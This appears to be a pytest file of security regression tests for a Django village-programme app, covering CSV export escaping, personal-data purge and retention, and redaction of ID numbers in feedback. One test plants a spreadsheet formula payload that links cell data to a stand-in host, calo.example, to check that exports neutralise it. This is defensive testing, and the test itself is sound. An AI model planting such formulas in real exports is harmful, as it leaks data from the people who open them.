"""Security, round two (issue 15): each finding of the attacker's probe, as a
test that failed on the code it was found in."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from faq.models import FaqQuestionPage, Feedback
from search.models import QueryLog
from tests.factories import PASSWORD, TrainingSessionFactory
from tests.village_programs.conftest import make_officer
from village_programs import history
from village_programs.models import OutreachRequest, TrainingSession, Village

pytestmark = pytest.mark.django_db

CITEKO = "32.14.04.2006"
LONG_AGO = timezone.now() - datetime.timedelta(days=800)


def staff(group="Village programme staff", username="staff"):
    user = User.objects.create_user(username, password=PASSWORD)
    user.groups.add(Group.objects.get(name=group))
    client = Client()
    client.force_login(user)
    return user, client


# 3. CSV formula injection ----------------------------------------------------------


def exported_rows(client, path):
    response = client.get(path, {"export": "csv"})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_an_officers_formula_reaches_the_export_as_text():
    formula = '=HYPERLINK("https://calo.example/?d="&A1,"Klik")'
    TrainingSessionFactory(village=Village.objects.get(code=CITEKO), place=formula, facilitators="@SUM(1+1)")
    _user, client = staff()
    rows = exported_rows(client, "/admin/village-programme/sessions/")
    cells = [cell for row in rows for cell in row]
    assert formula not in cells and "'" + formula in cells
    assert "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "@", "+")]


# 4. Retention --------------------------------------------------------------------


@pytest.fixture
def old_session(db):
    officer = make_officer("citeko-officer", CITEKO)
    session = TrainingSessionFactory(
        village=Village.objects.get(code=CITEKO), facilitators="Bu Sulastri", notes="Peserta: Pak Darman"
    )
    history.record(session, officer.user, "created")
    history.record(session, officer.user, "edited", {"facilitators": ["Bu Sulastri", "Bu Sulastri, Pak Darman"]})
    TrainingSession.objects.filter(pk=session.pk).update(created_at=LONG_AGO)
    return officer, session


def test_the_purge_removes_names_from_the_sessions_history_too(old_session):
    _officer, session = old_session
    call_command("purge_personal_data", stdout=io.StringIO())
    session.refresh_from_db()
    assert (session.facilitators, session.notes) == ("", "")
    stored = str(list(session.changes.values_list("changes", flat=True)))
    assert "Sulastri" not in stored and "Darman" not in stored
    assert session.changes.filter(action="edited", changes__has_key="facilitators").exists()  # what changed, when


def test_the_officers_session_page_still_opens_after_the_purge(old_session):
    officer, session = old_session
    call_command("purge_personal_data", stdout=io.StringIO())
    client = Client()
    client.force_login(officer.user)
    response = client.get(f"/id/desa/sesi/{session.pk}/")
    assert response.status_code == 200
    assert "Sulastri" not in response.content.decode()


def test_outreach_contacts_are_purged_once_a_request_is_long_finished(old_session):
    village = Village.objects.get(code=CITEKO)
    common = {
        "village": village,
        "place_name": "Balai Desa Citeko",
        "place_address": "Jl. Raya Citeko",
        "preferred_dates": ["2024-01-10"],
        "expected_applicants": 30,
        "services": ["new"],
        "contact_name": "Pak Darman",
        "contact_phone": "+6281234567890",
        "notes": "Hubungi Pak Darman",
    }
    finished = OutreachRequest.objects.create(state=OutreachRequest.State.COMPLETED, **common)
    active = OutreachRequest.objects.create(state=OutreachRequest.State.SCHEDULED, **common)
    OutreachRequest.objects.filter(pk__in=[finished.pk, active.pk]).update(updated_at=LONG_AGO)
    call_command("purge_personal_data", stdout=io.StringIO())
    finished.refresh_from_db()
    active.refresh_from_db()
    assert (finished.contact_name, finished.contact_phone, finished.notes) == ("", "", "")
    assert finished.expected_applicants == 30
    assert active.contact_name == "Pak Darman"  # the office may still need to call


def test_the_query_log_and_faq_comments_have_a_retention_period(settings):
    question = FaqQuestionPage.objects.filter(locale__language_code="id").first()
    old = Feedback.objects.create(question=question, helpful=False, comment="kurang jelas")
    Feedback.objects.filter(pk=old.pk).update(created_on=LONG_AGO.date())
    recent = Feedback.objects.create(question=question, helpful=True, comment="jelas")
    QueryLog.objects.create(query="paspor lama", language="id", day=LONG_AGO.date(), hits=3)
    QueryLog.objects.create(query="paspor baru", language="id", day=timezone.localdate(), hits=1)
    out = io.StringIO()
    call_command("purge_personal_data", stdout=out)
    old.refresh_from_db()
    recent.refresh_from_db()
    assert (old.comment, old.helpful) == ("", False)
    assert recent.comment == "jelas"
    assert list(QueryLog.objects.values_list("query", flat=True)) == ["paspor baru"]
    assert "1 search query log row(s)" in out.getvalue()


def test_a_nik_typed_into_feedback_is_never_stored(client):
    question = FaqQuestionPage.objects.filter(locale__language_code="id").first()
    client.post(
        f"/id/tanya-jawab/tanggapan/{question.pk}/",
        {"helpful": "no", "comment": "NIK saya 3201.2345.6789.0123, wa 0812 3456 7890"},
        HTTP_ORIGIN="http://testserver",
    )
    (comment,) = Feedback.objects.values_list("comment", flat=True)
    assert comment == "NIK saya #, wa #"
